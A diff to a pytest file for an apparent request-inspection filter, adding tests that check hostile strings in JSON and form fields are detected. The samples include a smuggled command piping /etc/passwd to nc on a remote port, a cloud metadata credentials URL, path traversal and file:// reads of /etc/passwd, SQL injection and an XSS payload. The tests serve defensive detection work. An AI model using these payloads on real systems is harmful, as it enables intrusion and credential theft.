@@ -343,3 +343,34 @@ def test_an_attack_in_a_field_that_another_app_may_have_is_refused(
         "; cat /etc/passwd | nc 10.0.0.1 4444\n# a\n# b\n# c",
     ):
         assert in_json(inspection, name, text), text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+        "../../../../etc/passwd",
+        "file:///etc/passwd",
+    ],
+)
+def test_a_schema_is_a_file_of_schemas_and_nothing_else(inspection: Inspection, text: str) -> None:
+    assert in_json(inspection, "$schema", text)
+    assert in_json(inspection, "message.$schema", text)
+    assert in_form(inspection, "config", json.dumps({"$schema": text}))
+
+
+@pytest.mark.parametrize(
+    "text", ["x' or 1=1 -- ", "<img src=x onerror=alert(1)>", "../../../../etc/passwd"]
+)
+def test_the_key_of_an_edit_is_a_file_and_nothing_else(inspection: Inspection, text: str) -> None:
+    for edited in ({text: []}, {"file:///home/ann/a.py": [], text: []}):
+        body = json.dumps({"params": {"edit": {"changes": edited}}}).encode()
+        assert inspection.body(body, content_type="application/json")
+
+
+def test_a_program_passes_where_formats_carry_one_and_in_no_other_field(
+    inspection: Inspection,
+) -> None:
+    text = "cd /srv/app && npm test 2>&1 | tail -20"
+    assert not in_json(inspection, "stdout", text)
+    assert in_json(inspection, "host", text)
